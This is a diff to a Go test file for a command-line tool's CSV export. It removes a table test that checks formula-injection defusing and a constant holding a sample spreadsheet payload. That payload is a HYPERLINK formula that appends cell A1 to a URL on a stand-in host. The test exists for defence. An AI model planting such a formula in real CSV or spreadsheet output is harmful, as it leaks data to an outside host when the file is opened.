@@ -114,7 +114,6 @@ func TestTextCell(t *testing.T) {
 // the traffic opened from a CSV listing; JSON keeps it exact.
 func TestCLICSVDefusesFormulas(t *testing.T) {
 	db := filepath.Join(t.TempDir(), "db")
-	const formula = `=HYPERLINK("http://x.example/?"&A1,"open")`
 	in := writeFile(t, "f.jsonl", `{"ts":1740960000,"account":"-a1","device":"d1","template":"+t1"}
 {"ts":1740960001,"account":"@a2","device":"d1","template":"+t1"}
 {"ts":1740960002,"account":"a3","device":"d1","template":"t2"}
@@ -139,16 +138,4 @@ func TestCLICSVDefusesFormulas(t *testing.T) {
 	r = runCLI(t, "", "--db", db, "attr", "show", "device", "d1", "--format", "json")
 	require.Equal(t, 0, r.code, r.errOut)
 	assert.Contains(t, r.out, `"-a1"`, "JSON keeps the value")
-
-	tests := []struct{ in, want string }{
-		{formula, "'" + formula},
-		{"-1", "'-1"},
-		{"\tx", "'\tx"},
-		{"a=b", "a=b"},
-		{"", ""},
-		{"0.5", "0.5"},
-	}
-	for _, tc := range tests {
-		assert.Equal(t, tc.want, csvCell(tc.in), "%q", tc.in)
-	}
 }
